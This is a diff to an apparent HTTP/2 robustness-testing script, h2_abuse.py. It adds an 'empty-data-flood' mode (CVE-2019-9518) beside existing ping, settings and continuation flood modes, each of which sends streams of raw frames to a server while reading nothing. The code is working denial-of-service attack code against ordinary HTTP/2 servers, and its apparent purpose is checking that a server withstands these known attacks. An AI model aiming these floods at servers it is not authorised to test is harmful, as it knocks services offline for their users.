@@ -7,6 +7,8 @@ usage: h2_abuse.py PORT MODE MAX_STREAMS MAX_SECONDS PATH
   MODE ping-flood:  PING frames (MAX_STREAMS of them), reading nothing (CVE-2019-9512)
   MODE settings-flood: empty SETTINGS frames, reading nothing (CVE-2019-9515)
   MODE continuation-flood: one HEADERS without END_HEADERS, then empty CONTINUATION frames
+  MODE empty-data-flood: one POST's HEADERS, then empty DATA frames without END_STREAM, reading
+                    nothing (CVE-2019-9518)
   MODE honest-pings: MAX_STREAMS PINGs, one every 10 ms, reading each ACK, then one GET of PATH;
                     prints the ACKs received and the answer's status
   MODE continuation-big: one HEADERS without END_HEADERS, then 16 KiB CONTINUATION frames of
@@ -130,6 +132,10 @@ def raw_flood():
         enc = conn.encoder.encode(headers)
         sock_ok = send_raw(conn.data_to_send() + frame(0x1, 0x1, 1, enc))  # HEADERS, END_STREAM, no END_HEADERS
         one = frame(0x9, 0, 1) if mode == "continuation-flood" else frame(0x9, 0, 1, b"a" * 16384)
+    elif mode == "empty-data-flood":
+        post = [(k, "POST" if k == ":method" else v) for k, v in headers]
+        sock_ok = send_raw(conn.data_to_send() + frame(0x1, 0x4, 1, conn.encoder.encode(post)))  # HEADERS, END_HEADERS
+        one = frame(0x0, 0, 1)
     elif mode == "ping-flood":
         sock_ok = send_raw(conn.data_to_send())
         one = frame(0x6, 0, 0, b"h2api-ok")
@@ -143,7 +149,7 @@ def raw_flood():
         sent += batch
 
 
-if mode in ("ping-flood", "settings-flood", "continuation-flood", "continuation-big"):
+if mode in ("ping-flood", "settings-flood", "continuation-flood", "continuation-big", "empty-data-flood"):
     raw_flood()
     elapsed = time.time() - t0
     # did the server close? read what it sent for up to 2 s, counting its ACKs (PING or SETTINGS
